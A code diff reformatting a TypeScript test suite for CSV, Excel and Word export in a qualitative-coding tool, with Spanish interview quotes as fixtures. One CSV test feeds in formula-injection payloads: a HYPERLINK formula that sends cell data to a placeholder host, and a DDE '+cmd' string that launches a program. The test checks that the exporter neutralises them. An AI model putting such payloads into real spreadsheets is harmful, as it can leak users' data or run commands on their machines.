@@ -10,11 +10,46 @@ import { tableToCsv } from '../../../src/export/csv';
 import { documentToDocx } from '../../../src/export/docx';
 import type { Code } from '../../../src/model/types';
 
-const code = (id: string, name: string, parentId: string | null, order: number, description = ''): Code => ({ id, projectId: 'p', parentId, name, color: '#000', description, inclusion: '', exclusion: '', example: '', order });
-const codes = [code('rel', 'Componente relacional', null, 0, 'Cómo se vincula la profesional con la familia.'), code('trust', 'Confianza', 'rel', 0), code('chal', 'Desafíos', null, 1)];
+const code = (id: string, name: string, parentId: string | null, order: number, description = ''): Code => ({
+  id,
+  projectId: 'p',
+  parentId,
+  name,
+  color: '#000',
+  description,
+  inclusion: '',
+  exclusion: '',
+  example: '',
+  order,
+});
+const codes = [
+  code('rel', 'Componente relacional', null, 0, 'Cómo se vincula la profesional con la familia.'),
+  code('trust', 'Confianza', 'rel', 0),
+  code('chal', 'Desafíos', null, 1),
+];
 const quote = (codeId: string, text: string, citation: string, sourceName = 'ARIII_telefonica'): RetrievedQuote =>
-  ({ codeId, codeIds: [codeId], segmentIds: [], sourceId: sourceName, sourceName, sourceKind: 'phone interview', caseNames: ['ARIII'], start: 10, end: 10 + text.length, text, before: '', after: '', paragraph: 3, citation, coderIds: ['ana'] }) as RetrievedQuote;
-const quotes = [quote('trust', 'le cuentan cosas que a mí no me cuentan', '(TMD, 8)'), quote('chal', 'El registro y la planificación', '(DRC, 9)'), quote('trust', 'hay más cercanía', '(ARIII, 3)')];
+  ({
+    codeId,
+    codeIds: [codeId],
+    segmentIds: [],
+    sourceId: sourceName,
+    sourceName,
+    sourceKind: 'phone interview',
+    caseNames: ['ARIII'],
+    start: 10,
+    end: 10 + text.length,
+    text,
+    before: '',
+    after: '',
+    paragraph: 3,
+    citation,
+    coderIds: ['ana'],
+  }) as RetrievedQuote;
+const quotes = [
+  quote('trust', 'le cuentan cosas que a mí no me cuentan', '(TMD, 8)'),
+  quote('chal', 'El registro y la planificación', '(DRC, 9)'),
+  quote('trust', 'hay más cercanía', '(ARIII, 3)'),
+];
 
 async function wordText(bytes: Uint8Array): Promise<string> {
   return (await mammoth.extractRawText({ buffer: Buffer.from(bytes) })).value;
@@ -67,8 +102,12 @@ describe('exporting retrieved segments to CSV', () => {
 
   it('neutralises a multi-line survey answer that opens with a formula, and leaves plain numbers alone', () => {
     const answer = '=HYPERLINK("http://example.invalid/?d="&A1,\n"Ver más")';
-    const cells = [answer, '+cmd|\' /C calc\'!A0\nsegunda línea', '@SUM(1+1)', '\t=1+1', '-3', '+12%', '-2,5', 'La madre = la cuidadora'];
-    const bytes = tableToCsv({ title: 't', columns: cells.map((_, i) => ({ key: `c${i}`, label: `C${i}` })), rows: [{ key: '1', cells: cells.map((text) => ({ kind: 'text' as const, text })) }] });
+    const cells = [answer, "+cmd|' /C calc'!A0\nsegunda línea", '@SUM(1+1)', '\t=1+1', '-3', '+12%', '-2,5', 'La madre = la cuidadora'];
+    const bytes = tableToCsv({
+      title: 't',
+      columns: cells.map((_, i) => ({ key: `c${i}`, label: `C${i}` })),
+      rows: [{ key: '1', cells: cells.map((text) => ({ kind: 'text' as const, text })) }],
+    });
     const parsed = Papa.parse<string[]>(new TextDecoder().decode(bytes.slice(3)).trim(), { newline: '\r\n' }).data;
     expect(parsed[1]).toEqual([`'${answer}`, `'${cells[1]}`, "'@SUM(1+1)", "'\t=1+1", '-3', '+12%', '-2,5', 'La madre = la cuidadora']);
   });
@@ -85,7 +124,17 @@ describe('exporting a table to Excel', () => {
         { key: 'n1', label: 'n', group: 'Con capacitación', numeric: true },
         { key: 'p1', label: '%', group: 'Con capacitación', numeric: true },
       ],
-      rows: [{ key: 'r', depth: 1, cells: [{ kind: 'text' as const, text: 'Confianza' }, { kind: 'number' as const, value: 3 }, { kind: 'number' as const, value: 37.5, decimals: 1, percent: true }] }],
+      rows: [
+        {
+          key: 'r',
+          depth: 1,
+          cells: [
+            { kind: 'text' as const, text: 'Confianza' },
+            { kind: 'number' as const, value: 3 },
+            { kind: 'number' as const, value: 37.5, decimals: 1, percent: true },
+          ],
+        },
+      ],
       note: 'Porcentajes de los casos de cada grupo.',
     };
     const bytes = await tableToXlsx(table);
